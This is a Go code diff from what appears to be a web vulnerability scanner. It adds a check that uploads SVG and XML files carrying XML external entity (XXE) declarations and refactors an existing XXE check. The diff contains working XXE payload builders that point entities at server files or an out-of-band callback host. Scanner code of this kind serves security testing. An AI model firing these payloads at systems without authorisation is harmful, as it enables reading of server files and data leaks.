@@ -26,45 +26,100 @@ func xxe() kit.Check {
 		if p.Format != message.XML || strings.Contains(p.Name, "@") {
 			return nil
 		}
-		for _, f := range files {
-			grammar := regexp.MustCompile(f.grammar)
-			first, err := w.Send(ctx, t, entity(t.Request, p, f.address))
-			if err != nil {
-				return err
-			}
-			match := grammar.FindString(kit.Shown(first.Body))
-			if match == "" || t.Response != nil && grammar.Match(t.Response.Body) {
-				continue
-			}
-			control, err := w.Send(ctx, t, entity(t.Request, p, f.missing))
-			if err != nil || grammar.MatchString(kit.Shown(control.Body)) {
-				return err
-			}
-			again, err := w.Send(ctx, t, entity(t.Request, p, f.address))
-			if err != nil || !grammar.MatchString(kit.Shown(again.Body)) {
-				return err
-			}
-			user, users := kit.Names(t.User)
-			w.Found(&c, kit.Finding{Request: first.Request, Place: p, Payload: f.address, Detail: f.address,
-				Evidence: []kit.Evidence{
-					{Request: first.Request, Response: first, Match: match[:min(len(match), 300)],
-						Note: "the content of " + f.address},
-					{Request: control.Request, Response: control, Note: "a name of no file does not bring it"},
-				},
-				Proof: &proof.Program{About: "An external entity brings the content of a file.", Users: users, Steps: []proof.Step{
-					{ID: "file", As: user, Send: entity(t.Request, p, f.address), Expect: []proof.Expect{{What: proof.Matches, Value: f.grammar}}},
-					{ID: "missing", As: user, Send: entity(t.Request, p, f.missing), Expect: []proof.Expect{{What: proof.Matches, Value: f.grammar, Not: true}}},
-				}}})
-			return nil
+		e := entities{World: w, Target: t, c: &c, place: p,
+			with: func(address string) *message.Request { return entity(t.Request, p, address) }}
+		if found, err := e.read(ctx); err != nil || found || w.OAST == nil || !w.Once("xxe oob "+t.Request.Key()) {
+			return err
 		}
-		if w.OAST == nil || !w.Once("xxe oob "+t.Request.Key()) {
-			return nil
-		}
-		return call(ctx, waiting{check: &c, target: t, place: p, write: func(address string) *message.Request {
-			return entity(t.Request, p, "http://"+address+"/")
-		}}, w)
+		return call(ctx, waiting{check: &c, target: t, place: p, write: e.called}, w)
 	}
 	return c
+}
+
+// drawings are files with an entity {e}, declared in {d}, that applications read as XML.
+var drawings = []struct{ ext, kind, content string }{
+	{".svg", "image/svg+xml", `<?xml version="1.0"?>{d}<svg xmlns="http://www.w3.org/2000/svg" width="400" height="80">` +
+		`<title>{e}</title><desc>{e}</desc><text x="9" y="20">{e}</text></svg>`},
+	{".xml", "text/xml", `<?xml version="1.0"?>{d}<data><item><name>{e}</name></item></data>`},
+}
+
+// xxeInFile is the check for entities in files that are left: drawings and documents of XML. Two requests for each
+// kind that is clean, one more for the out-of-band server; at level active, because it may store them.
+func xxeInFile() kit.Check {
+	c := kit.Check{ID: "xxe-in-file", Class: "xxe", Level: client.Active}.Describe()
+	c.Place = func(ctx context.Context, w *kit.World, t *kit.Target, p message.Place) error {
+		if !p.File {
+			return nil
+		}
+		for _, d := range drawings {
+			e := entities{World: w, Target: t, c: &c, place: p, writes: true, with: func(address string) *message.Request {
+				name := "e" + kit.Word()
+				text := strings.NewReplacer("{d}", declare(name, address), "{e}", "&"+name+";").Replace(d.content)
+				return named(t.Request.Put(p, text), p.Name, kit.Word()+d.ext, d.kind)
+			}}
+			if found, err := e.read(ctx); err != nil || found {
+				return err
+			}
+			if w.OAST != nil {
+				if err := call(ctx, waiting{check: &c, target: t, place: p, write: e.called}, w); err != nil {
+					return err
+				}
+			}
+		}
+		return nil
+	}
+	return c
+}
+
+// entities is the test of a document that may have one.
+type entities struct {
+	*kit.World
+	*kit.Target
+
+	c      *kit.Check
+	place  message.Place
+	writes bool
+	with   func(address string) *message.Request
+}
+
+func (e *entities) called(address string) *message.Request { return e.with("http://" + address + "/") }
+
+// read reports an entity that brings the content of a file.
+func (e *entities) read(ctx context.Context) (bool, error) {
+	for _, f := range files {
+		grammar := regexp.MustCompile(f.grammar)
+		first, err := e.Send(ctx, e.Target, e.with(f.address))
+		if err != nil {
+			return false, err
+		}
+		match := grammar.FindString(kit.Shown(first.Body))
+		if match == "" || e.Response != nil && grammar.Match(e.Response.Body) {
+			continue
+		}
+		control, err := e.Send(ctx, e.Target, e.with(f.missing))
+		if err != nil || grammar.MatchString(kit.Shown(control.Body)) {
+			return false, err
+		}
+		again, err := e.Send(ctx, e.Target, e.with(f.address))
+		if err != nil || !grammar.MatchString(kit.Shown(again.Body)) {
+			return false, err
+		}
+		user, users := kit.Names(e.User)
+		e.Found(e.c, kit.Finding{Request: first.Request, Place: e.place, Payload: f.address, Detail: f.address,
+			Evidence: []kit.Evidence{
+				{Request: first.Request, Response: first, Match: match[:min(len(match), 300)],
+					Note: "the content of " + f.address},
+				{Request: control.Request, Response: control, Note: "a name of no file does not bring it"},
+			},
+			Proof: &proof.Program{About: "An external entity brings the content of a file.", Users: users, Steps: []proof.Step{
+				{ID: "file", As: user, Send: e.with(f.address), Writes: e.writes,
+					Expect: []proof.Expect{{What: proof.Matches, Value: f.grammar}}},
+				{ID: "missing", As: user, Send: e.with(f.missing), Writes: e.writes,
+					Expect: []proof.Expect{{What: proof.Matches, Value: f.grammar, Not: true}}},
+			}}})
+		return true, nil
+	}
+	return false, nil
 }
 
 var prolog = regexp.MustCompile(`^\s*<\?xml[^>]*\?>`)
@@ -75,8 +130,12 @@ func entity(r *message.Request, p message.Place, address string) *message.Reques
 	name := "e" + kit.Word()
 	out := r.PutRaw(p, "&"+name+";")
 	body := doctype.ReplaceAll(out.Body, nil)
-	declared := []byte(`<!DOCTYPE r [<!ENTITY ` + name + ` SYSTEM "` + address + `">]>`)
 	head := prolog.Find(body)
-	out.Body = bytes.Join([][]byte{head, declared, body[len(head):]}, nil)
+	out.Body = bytes.Join([][]byte{head, []byte(declare(name, address)), body[len(head):]}, nil)
 	return out
+}
+
+// declare declares an external entity.
+func declare(name, address string) string {
+	return `<!DOCTYPE r [<!ENTITY ` + name + ` SYSTEM "` + address + `">]>`
 }
